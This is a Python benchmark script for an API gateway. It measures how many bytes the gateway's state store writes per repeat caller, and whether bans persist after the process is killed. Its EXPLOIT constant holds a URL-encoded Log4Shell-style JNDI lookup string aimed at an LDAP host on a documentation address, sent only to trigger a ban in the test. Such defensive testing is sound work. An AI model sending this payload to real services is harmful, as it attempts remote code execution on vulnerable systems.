"""The store: how much it writes while callers come, and which bans are on the disk when the gateway is killed.

    python3 benches/reliability/store_writes.py [target/debug/portcullis] [--callers 300] [--requests 30000] [--kills 20]

First callers with keys of their own are let in, each for the first time; then the same come again and again. What the process has
written to the disk is what the kernel counts for it (`write_bytes` of /proc/PID/io), since nothing else of it writes: no event is made.
Then, on a gateway of its own each time, one caller is banned for an exploit, and the gateway is killed so many milliseconds after the answer
to that; a new start says whether the ban is there. Bar: a caller that comes again costs less than 100 bytes, and no ban is lost that was
made 40 ms before the kill. A killed process leaves what it had written to the operating system: a loss of power is not tried.
"""

import asyncio
import base64
import hashlib
import pathlib
import re
import secrets
import signal
import time
import zlib

import rig

KEYS = '[[identity.api_key]]\nname = "keys"\nheader = "x-api-key"\nfile = "keys.toml"\n'
STORE = '[store]\npath = "state.db"\n'
POLICY = """
[[role]]
name = "some"
permissions = [{ actions = ["GET /**"] }]
[[assignment]]
name = "everybody"
role = "some"
principals = ["authenticated"]
scope = "*"
"""
EXPLOIT = "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.1%2Fx%7D"


def mint(name):
    """A key as `portcullis key create` makes one, and its entry."""
    secret = secrets.token_bytes(32)
    body = f"pcl_{name}_" + base64.b32encode(secret).decode().rstrip("=").lower()
    sha256 = hashlib.sha256(secret).hexdigest()
    entry = f'[[key]]\nid = "{name}"\nsha256 = "{sha256}"\nprincipal = "user:{name}"\n'
    return f"{body}_{zlib.crc32(body.encode()):08x}", entry


def written(gateway):
    """Bytes that the process has had written to the disk."""
    text = pathlib.Path(f"/proc/{gateway.process.pid}/io").read_text()
    return int(re.search(r"write_bytes: (\d+)", text).group(1))


async def settled(gateway):
    """Until everything is in the file: more than a little is written every 30 s."""
    deadline = time.monotonic() + 40
    while await gateway.metric("portcullis_store_pending") > 0:
        assert time.monotonic() < deadline, "the store does not come to rest"
        await asyncio.sleep(0.1)


async def ended(gateway):
    """Whatever came in between."""
    if gateway.process is not None:
        await gateway.stop()
    gateway.remove()


async def volume(options, upstream):
    keys = [mint(f"caller-{number}") for number in range(options.callers)]
    config = rig.config(upstream, more=rig.ROUTE + KEYS + STORE)
    gateway = rig.Gateway(options.program, config, POLICY, keys="".join(entry for _, entry in keys))
    try:
        return await measured(options, gateway, keys)
    finally:
        await ended(gateway)


async def measured(options, gateway, keys):
    await gateway.start()
    await settled(gateway)

    async def come(rounds, connections=16):
        async def calls(mine):
            caller = rig.Caller(gateway.address)
            for _ in range(rounds):
                for key, _ in mine:
                    answer = await caller.ask("/x", {"x-api-key": key})
                    assert answer.status == 200, answer.status
            caller.close()

        before = written(gateway), await gateway.metric("portcullis_store_rows_total"), time.monotonic()
        await asyncio.gather(*(calls(keys[number::connections]) for number in range(connections)))
        took = time.monotonic() - before[2]
        await settled(gateway)
        rows = await gateway.metric("portcullis_store_rows_total") - before[1]
        return (written(gateway) - before[0]), rows, took

    first, first_rows, _ = await come(1)
    rounds = max(options.requests // options.callers, 1)
    again, again_rows, took = await come(rounds)
    requests = rounds * options.callers
    size = await gateway.metric("portcullis_store_bytes")
    each = again / requests
    return [
        (f"{options.callers} callers for the first time: bytes each", f"{first / options.callers:.0f}", None),
        ("  records looked at, of 1,000 requests", f"{first_rows / options.callers * 1000:.0f}", None),
        (f"{requests} requests of the same in {took:.1f} s: bytes of 1,000", f"{each * 1000:.0f}", each < 100),
        ("  records looked at, of 1,000 requests", f"{again_rows / requests * 1000:.1f}", None),
        ("the store on the disk, in KiB", f"{size / 1024:.0f}", None),
    ]


async def durability(options, upstream):
    rows = []
    for after_ms in (0, 1, 2, 5, 10, 20, 40):
        lost = 0
        for _ in range(options.kills):
            gateway = rig.Gateway(options.program, rig.config(upstream, more=rig.ROUTE + KEYS + STORE), POLICY, keys=mint("a")[1])
            await gateway.start()
            await settled(gateway)
            caller = rig.Caller(gateway.address, "127.0.0.9")
            assert (await caller.ask(EXPLOIT)).status == 401
            await asyncio.sleep(after_ms / 1000)
            gateway.process.send_signal(signal.SIGKILL)
            await gateway.process.wait()
            await gateway.reading
            caller.close()
            gateway.log.clear()
            await gateway.start()
            caller = rig.Caller(gateway.address, "127.0.0.9")
            lost += (await caller.ask("/x")).status != 403
            caller.close()
            await gateway.stop()
            gateway.remove()
        bar = lost == 0 if after_ms >= 40 else None
        rows.append((f"killed {after_ms} ms after the ban: bans lost, of {options.kills}", lost, bar))
    return rows


async def main():
    options = rig.arguments(
        __doc__,
        callers=(300, "callers with a key each"),
        requests=(30_000, "requests of callers that come again"),
        kills=(20, "kills for each time"),
    )
    upstream = await rig.Upstream().start()
    rig.report("The store", await volume(options, upstream) + await durability(options, upstream))


asyncio.run(main())
